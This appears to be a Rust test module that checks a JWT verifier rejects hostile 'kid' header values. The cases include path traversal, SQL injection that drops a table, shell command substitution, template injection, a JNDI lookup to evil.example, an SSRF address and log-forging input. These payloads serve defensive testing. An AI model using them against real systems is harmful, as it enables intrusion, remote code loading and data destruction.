//! Key ids that try to reach something else than a key.

use proto::reason::{TOKEN_KEY_UNKNOWN, TOKEN_MALFORMED};
use serde_json::{Value, json};

use super::{Case, Scene, cases};

const LOOKED_UP: &str = "RFC 8725 §3.10: `kid` is only compared";
const FORM: &str = "RFC 7515 §4.1.4: `kid` is a string; ours: at most 255 plain characters";

pub(super) fn tokens(scene: &Scene) -> Vec<Case> {
    let kid = |value: Value| scene.good.clone().header("kid", value).sign();
    let own = scene.ed25519.id();
    let unknown = [
        ("a key that nobody knows", kid(json!("nobody"))),
        ("an empty key id", kid(json!(""))),
        ("no key id where two keys fit", scene.good.clone().without_header("kid").sign()),
        ("a path", kid(json!("../../../../../../dev/null"))),
        ("a path on Windows", kid(json!("..\\..\\windows\\win.ini"))),
        ("a file", kid(json!("file:///proc/sys/kernel/randomize_va_space"))),
        ("an address", kid(json!("http://127.0.0.1:9/key"))),
        ("a statement", kid(json!("x' UNION SELECT 'AA==' --"))),
        ("a statement that deletes", kid(json!("'; DROP TABLE \"user\"; --"))),
        ("a command", kid(json!("| /usr/bin/id"))),
        ("a command in a substitution", kid(json!("$(id)`id`"))),
        ("a template in a key id", kid(json!("{{7*7}}${7*7}"))),
        ("a look-up", kid(json!("${jndi:ldap://evil.example/a}"))),
        ("a wild card", kid(json!("*"))),
        ("a member of every object", kid(json!("__proto__"))),
        ("an index", kid(json!("0"))),
        ("our key in capitals", kid(json!(own.to_uppercase()))),
        ("our key and a space", kid(json!(format!("{own} ")))),
        ("half of our key", kid(json!(&own[..16]))),
        ("our key percent-encoded", kid(json!(format!("%{:x}{}", own.as_bytes()[0], &own[1..])))),
        ("two keys", kid(json!(format!("{own},{}", scene.p256.id())))),
        ("a key id in letters of full width", kid(json!("\u{ff41}\u{ff42}"))),
        ("the longest key id", kid(json!("k".repeat(255)))),
    ];
    let forms = [
        ("a key id that is too long", kid(json!("k".repeat(256)))),
        ("a key id of thousands", kid(json!("k".repeat(5_000)))),
        ("our key and a NUL", kid(json!(format!("{own}\u{0}")))),
        ("a line feed that would forge a log", kid(json!("x\nlevel=error"))),
        ("an escape that would paint a terminal", kid(json!("\u{1b}[2J"))),
        ("a key id that is a number", kid(json!(1))),
        ("a key id that is null", kid(json!(null))),
        ("a key id that is a list", kid(json!([own]))),
        ("a key id that is an object", kid(json!({ "$ne": "" }))),
        ("a key id that is true", kid(json!(true))),
    ];
    [cases(LOOKED_UP, TOKEN_KEY_UNKNOWN, unknown), cases(FORM, TOKEN_MALFORMED, forms)].concat()
}
